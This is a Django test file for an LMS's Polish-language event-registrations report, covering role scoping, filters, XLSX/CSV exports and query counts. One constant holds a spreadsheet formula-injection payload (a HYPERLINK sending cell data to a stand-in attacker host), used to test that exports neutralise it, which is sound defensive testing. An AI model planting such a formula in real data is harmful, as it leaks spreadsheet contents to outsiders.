"""The registrations report ("Zapisy na wydarzenia"): one row per registration, scoped per role,
filtered, exported to XLSX and CSV (never a formula), in a fixed number of queries."""

import csv
import io
from datetime import datetime, timedelta
from http import HTTPStatus

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from events import services
from events.models import Registration
from lms.organisations.models import OrganisationUnit
from lms.users.roles import Role
from tests import factories
from tests.admin_access import assert_sent_to_admin_login
from tests.factories import UserFactory

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("media")]

URL = reverse("events_registration_report")
RESULTS_URL = reverse("events_registration_report_results")
FORMULA = '=HYPERLINK("http://zly.example/?d="&A1,"Kliknij")'

HEADINGS = [
    "Wydarzenie",
    "Data wydarzenia",
    "Rodzaj",
    "Powiat wydarzenia",
    "Nazwisko",
    "Imię",
    "E-mail",
    "Jednostka",
    "Status",
    "Pozycja na liście rezerwowej",
    "Zgłoszono",
    "Zgłosił(a)",
    "Obecność",
    "Obecność potwierdzono",
    "Sposób potwierdzenia obecności",
]


def client_of(user):
    client = Client()
    client.force_login(user)
    return client


def listed(client, **params):
    response = client.get(URL, params)
    assert response.status_code == HTTPStatus.OK
    return {(row.event.title, row.user.email) for row in response.context["object_list"]}


def workbook_rows(response):
    assert response.status_code == HTTPStatus.OK
    assert response["Content-Disposition"].endswith('.xlsx"')
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    header = [cell.value for cell in sheet[1]]
    return sheet, header, [list(row) for row in sheet.iter_rows(min_row=2)]


def csv_rows(response):
    assert response.status_code == HTTPStatus.OK
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


@pytest.fixture
def data(units, coordinator_a):
    """Two events and four people of gmina A (Anna), its school (Bartosz) and gmina B (Celina,
    Dawid, whose surname is a formula):

    - "Panel w Pruszczu" (panel, Powiat gdański, 2 places, led by trainer 1): Anna (registered
      by coordinator A, present: QR code), Bartosz (present: trainer's list), then Celina and
      Dawid on the waiting list (1st and 2nd);
    - "Webinarium o migracji" (webinar, Gdańsk, in 40 days, led by trainer 2): Celina, Dawid,
      and Anna who cancelled.
    """
    gmina_a, school_a, gmina_b = units
    trainers = [
        UserFactory(first_name="Tomasz", last_name=f"Trener-{n}", roles=[Role.TRAINER])
        for n in (1, 2)
    ]
    people = {
        "anna": UserFactory(
            first_name="Anna", last_name="Nowak", email="anna@a.example", unit=gmina_a
        ),
        "bartosz": UserFactory(
            first_name="Bartosz", last_name="Żółtowski", email="bartosz@a.example", unit=school_a
        ),
        "celina": UserFactory(
            first_name="Celina", last_name="Ślęzak", email="celina@b.example", unit=gmina_b
        ),
        "dawid": UserFactory(
            first_name="Dawid", last_name=FORMULA, email="dawid@b.example", unit=gmina_b
        ),
    }
    panel = factories.event(title="Panel w Pruszczu", capacity=2, trainers=[trainers[0]])
    webinar = factories.event(
        title="Webinarium o migracji",
        kind="webinar",
        online_url="https://spotkanie.example/migracja",
        venue="",
        county=OrganisationUnit.objects.get(code="2261"),
        starts_in=timedelta(days=40),
        trainers=[trainers[1]],
    )
    services.register(event=panel, user=people["anna"], registered_by=coordinator_a, notify=False)
    for name in ("bartosz", "celina", "dawid"):
        services.register(event=panel, user=people[name], notify=False)
    for name in ("celina", "dawid", "anna"):
        services.register(event=webinar, user=people[name], notify=False)
    services.cancel(
        registration=Registration.objects.get(event=webinar, user=people["anna"]), notify=False
    )
    now = timezone.now()
    Registration.objects.filter(event=panel, user=people["anna"]).update(
        attended_at=now, check_in_method=Registration.CheckIn.QR
    )
    Registration.objects.filter(event=panel, user=people["bartosz"]).update(
        attended_at=now, check_in_method=Registration.CheckIn.LIST, checked_in_by=trainers[0]
    )
    coordinator_a.first_name, coordinator_a.last_name = "Kinga", "Koordynatorka"
    coordinator_a.save()
    return {"panel": panel, "webinar": webinar, "people": people, "trainers": trainers}


PANEL, WEBINAR = "Panel w Pruszczu", "Webinarium o migracji"
EVERY_ROW = {
    (PANEL, "anna@a.example"),
    (PANEL, "bartosz@a.example"),
    (PANEL, "celina@b.example"),
    (PANEL, "dawid@b.example"),
    (WEBINAR, "celina@b.example"),
    (WEBINAR, "dawid@b.example"),
    (WEBINAR, "anna@a.example"),
}


# --- The page ---------------------------------------------------------------------------------------


def test_administrator_sees_every_registration_with_its_columns(admin_client, data):
    response = admin_client.get(URL)

    assert listed(admin_client) == EVERY_ROW
    html = response.content.decode()
    for text in (
        "Zapisy na wydarzenia",
        "Panel w Pruszczu",
        "panel dyskusyjny",
        "webinarium",
        "Powiat gdański",
        "Żółtowski",
        "Szkoła w A",
        "zapisany(-a)",
        "lista rezerwowa (pozycja 1)",
        "lista rezerwowa (pozycja 2)",
        "rezygnacja",
        "kod QR",
        "lista prowadzącego",
        "Kinga Koordynatorka",  # who registered Anna
    ):
        assert text in html, text


def test_the_newest_events_come_first_each_in_arrival_order(admin_client, data):
    rows = admin_client.get(URL).context["object_list"]

    assert [(r.event.title, r.user.first_name) for r in rows] == [
        (WEBINAR, "Celina"),
        (WEBINAR, "Dawid"),
        (WEBINAR, "Anna"),
        (PANEL, "Anna"),
        (PANEL, "Bartosz"),
        (PANEL, "Celina"),
        (PANEL, "Dawid"),
    ]


def test_waiting_positions_are_the_ones_the_participants_are_told(admin_client, data):
    rows = admin_client.get(URL, {"status": "waiting"}).context["object_list"]

    assert [r.waiting_position for r in rows] == [1, 2]
    for row in rows:
        assert row.waiting_position == services.waiting_position(row)


# --- Filters ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"status": "waiting"}, {(PANEL, "celina@b.example"), (PANEL, "dawid@b.example")}),
        ({"status": "cancelled"}, {(WEBINAR, "anna@a.example")}),
        ({"attended": "true"}, {(PANEL, "anna@a.example"), (PANEL, "bartosz@a.example")}),
        (
            {"attended": "false"},
            EVERY_ROW - {(PANEL, "anna@a.example"), (PANEL, "bartosz@a.example")},
        ),
        ({"q": "ślęzak"}, {(PANEL, "celina@b.example"), (WEBINAR, "celina@b.example")}),
    ],
)
def test_status_attendance_and_search_filters(admin_client, data, params, expected):
    assert listed(admin_client, **params) == expected


def test_event_county_and_date_filters(admin_client, data):
    today = timezone.localdate()
    webinar_rows = {row for row in EVERY_ROW if row[0] == WEBINAR}

    assert listed(admin_client, event=data["webinar"].pk) == webinar_rows
    assert listed(admin_client, county=OrganisationUnit.objects.get(code="2261").pk) == (
        webinar_rows
    )
    assert (
        listed(
            admin_client,
            starts_from=str(today + timedelta(days=30)),
            starts_to=str(today + timedelta(days=365)),
        )
        == webinar_rows
    )
    assert listed(admin_client, starts_from="2000-01-01", starts_to=str(today)) == set()


def test_active_filters_read_in_polish(admin_client, data):
    attended = admin_client.get(URL, {"attended": "true", "status": "confirmed"})
    absent = admin_client.get(URL, {"attended": "false"})

    chips = {(str(f.field_label), f.value) for f in attended.context["view"].active_filters}
    assert chips == {("Obecność potwierdzona", "Tak"), ("Status zgłoszenia", "zapisany(-a)")}
    assert [f.value for f in absent.context["view"].active_filters] == ["Nie"]


def test_the_results_fragment_answers_the_filter_panel(admin_client, data):
    response = admin_client.get(RESULTS_URL, {"event": data["panel"].pk})

    assert response.status_code == HTTPStatus.OK
    assert len(response.context["object_list"]) == 4


# --- Scope ------------------------------------------------------------------------------------------


def test_coordinator_sees_only_the_people_of_their_units(coordinator_a, data):
    client = client_of(coordinator_a)

    response = client.get(URL)
    rows = listed(client)
    forced = listed(client, event=data["panel"].pk)
    xlsx = workbook_rows(client.get(URL, {"export": "xlsx"}))[2]
    csv_body = csv_rows(client.get(URL, {"export": "csv"}))[1:]

    expected = {
        (PANEL, "anna@a.example"),
        (PANEL, "bartosz@a.example"),  # the school below gmina A
        (WEBINAR, "anna@a.example"),
    }
    assert rows == expected
    assert forced == {(PANEL, "anna@a.example"), (PANEL, "bartosz@a.example")}
    assert {(row[0].value, row[6].value) for row in xlsx} == expected
    assert {(row[0], row[6]) for row in csv_body} == expected
    html = response.content.decode()
    assert "Ślęzak" not in html
    assert "celina@b.example" not in html


def test_trainer_sees_only_the_events_they_lead(data):
    client = client_of(data["trainers"][0])

    response = client.get(URL)
    choices = set(response.context["filters"].form.fields["event"].queryset)
    forced = listed(client, event=data["webinar"].pk)  # not theirs: refused by the filter

    assert listed(client) == {row for row in EVERY_ROW if row[0] == PANEL}
    assert choices == {data["panel"]}
    assert forced == set()
    assert csv_rows(client.get(URL, {"export": "csv", "event": data["webinar"].pk})) == [HEADINGS]


def test_trainer_leading_no_event_gets_an_empty_report(data):
    client = client_of(UserFactory(roles=[Role.TRAINER]))

    assert listed(client) == set()
    assert len(csv_rows(client.get(URL, {"export": "csv"}))) == 1


def test_learners_and_anonymous_people_are_refused(user, client, data):
    assert_sent_to_admin_login(client.get(URL), URL)
    assert_sent_to_admin_login(client_of(user).get(URL), URL)
    assert_sent_to_admin_login(client_of(user).get(URL, {"export": "xlsx"}), f"{URL}?export=xlsx")


def test_admin_user_without_a_reporting_role_is_refused(data):
    """Admin access alone (no trainer, coordinator or administrator role) is not enough."""
    from django.contrib.auth.models import Permission

    editor = UserFactory(roles=[])
    editor.user_permissions.add(
        Permission.objects.get(content_type__app_label="wagtailadmin", codename="access_admin")
    )

    response = client_of(editor).get(URL)

    assert response.status_code == HTTPStatus.FOUND  # Wagtail's "no permission" message
    assert response["Location"] == reverse("wagtailadmin_home")


# --- Exports ----------------------------------------------------------------------------------------


def test_xlsx_has_polish_headings_typed_cells_and_the_filtered_rows(admin_client, data):
    response = admin_client.get(URL, {"export": "xlsx", "event": data["panel"].pk})

    sheet, header, cells = workbook_rows(response)
    assert header == HEADINGS
    assert sheet.freeze_panes == "A2"
    rows = {row[6].value: dict(zip(header, [c.value for c in row], strict=True)) for row in cells}
    assert set(rows) == {
        "anna@a.example",
        "bartosz@a.example",
        "celina@b.example",
        "dawid@b.example",
    }
    anna = rows["anna@a.example"]
    assert anna["Wydarzenie"] == PANEL
    assert anna["Rodzaj"] == "panel dyskusyjny"
    assert anna["Powiat wydarzenia"] == "Powiat gdański"
    assert anna["Status"] == "zapisany(-a)"
    assert anna["Pozycja na liście rezerwowej"] is None
    assert anna["Zgłosił(a)"] == "Kinga Koordynatorka"
    assert anna["Obecność"] == "tak"
    assert anna["Sposób potwierdzenia obecności"] == "kod QR"
    local_start = timezone.localtime(data["panel"].starts_at).replace(tzinfo=None)
    assert anna["Data wydarzenia"] == local_start
    assert isinstance(anna["Zgłoszono"], datetime)
    assert isinstance(anna["Obecność potwierdzono"], datetime)
    bartosz = rows["bartosz@a.example"]
    assert bartosz["Jednostka"] == "Szkoła w A"
    assert bartosz["Sposób potwierdzenia obecności"] == "lista prowadzącego"
    assert bartosz["Zgłosił(a)"] is None  # registered themselves
    celina = rows["celina@b.example"]
    assert celina["Status"] == "lista rezerwowa"
    assert celina["Pozycja na liście rezerwowej"] == 1
    assert celina["Obecność"] == "nie"
    assert rows["dawid@b.example"]["Pozycja na liście rezerwowej"] == 2


def test_xlsx_keeps_a_formula_like_name_as_text(admin_client, data):
    response = admin_client.get(URL, {"export": "xlsx", "q": "dawid@b.example"})

    _sheet, header, cells = workbook_rows(response)
    surname = header.index("Nazwisko")
    assert {row[surname].value for row in cells} == {FORMULA}
    assert {row[surname].data_type for row in cells} == {"s"}  # a string cell, not a formula


def test_csv_gives_the_page_rows_in_polish_and_neutralises_formulas(admin_client, data):
    page = admin_client.get(URL).context["object_list"]
    response = admin_client.get(URL, {"export": "csv"})

    assert response["Content-Disposition"].startswith(
        f'attachment; filename="zapisy-na-wydarzenia-{timezone.localdate():%Y-%m-%d}.csv'
    )
    rows = csv_rows(response)
    header, body = rows[0], rows[1:]
    assert header == HEADINGS
    assert [(r[0], r[6]) for r in body] == [(r.event.title, r.user.email) for r in page]
    by_key = {(r[0], r[6]): dict(zip(header, r, strict=True)) for r in body}
    dawid = by_key[(PANEL, "dawid@b.example")]
    assert dawid["Nazwisko"] == "'" + FORMULA  # neutralised: never run as a formula
    assert dawid["Status"] == "lista rezerwowa"
    assert dawid["Pozycja na liście rezerwowej"] == "2"
    cancelled = by_key[(WEBINAR, "anna@a.example")]
    assert cancelled["Status"] == "rezygnacja"
    assert cancelled["Rodzaj"] == "webinarium"
    assert cancelled["Obecność"] == "nie"
    assert by_key[(PANEL, "anna@a.example")]["Obecność"] == "tak"


def test_exports_are_written_to_the_audit_log(admin_client, data):
    from lms.audit.models import AuditEntry

    admin_client.get(URL, {"export": "csv", "status": "waiting"})

    entry = AuditEntry.objects.latest("pk")
    assert entry.target == "Zapisy na wydarzenia"
    assert "status=waiting" in entry.details


# --- Queries ----------------------------------------------------------------------------------------


# (page, export) queries at most, whatever the number of rows: a coordinator's admin menu checks
# their roles a few more times than an administrator's.
QUERIES = {"administrator": (8, 3), "coordinator": (18, 8)}


@pytest.mark.parametrize("viewer", QUERIES)
def test_the_page_and_the_export_cost_the_same_queries_for_few_or_many_rows(
    admin_user, coordinator_a, data, units, viewer, django_assert_max_num_queries
):
    page_queries, export_queries = QUERIES[viewer]
    client = client_of(admin_user if viewer == "administrator" else coordinator_a)

    def measure():
        client.get(URL)  # warm caches (site root paths, permissions)
        with django_assert_max_num_queries(page_queries) as page:
            response = client.get(URL)
        with django_assert_max_num_queries(export_queries) as export:
            rows = csv_rows(client.get(URL, {"export": "csv"}))
        return len(page), len(export), len(response.context["object_list"]), len(rows) - 1

    few = measure()
    big = factories.event(title="Konferencja", kind="conference", capacity=30)
    for number in range(60):
        person = UserFactory(unit=units[number % 3])  # gmina A, its school, gmina B
        services.register(event=big, user=person, registered_by=coordinator_a, notify=False)
    many = measure()

    assert many[:2] == few[:2]
    if viewer == "administrator":
        assert (few[2:], many[2:]) == ((7, 7), (50, 67))  # the page shows 50 of 67
    else:
        assert (few[2:], many[2:]) == ((3, 3), (43, 43))  # gmina A and its school: 3 + 40


# --- Links ------------------------------------------------------------------------------------------


def test_the_check_in_screen_links_to_the_report_of_its_event(data):
    client = client_of(data["trainers"][0])
    link = f"{URL}?event={data['panel'].pk}"

    response = client.get(reverse("events:check_in", kwargs={"page_id": data["panel"].pk}))

    assert link in response.content.decode()
    assert len(client.get(link).context["object_list"]) == 4


def test_the_event_editor_has_a_registrations_button(admin_client, data):
    response = admin_client.get(reverse("wagtailadmin_pages:edit", args=[data["panel"].pk]))

    assert f"{URL}?event={data['panel'].pk}" in response.content.decode()


def test_the_reports_menu_lists_the_report_for_staff(admin_client, data):
    response = admin_client.get(reverse("wagtailadmin_home"))

    assert "Zapisy na wydarzenia" in response.content.decode()
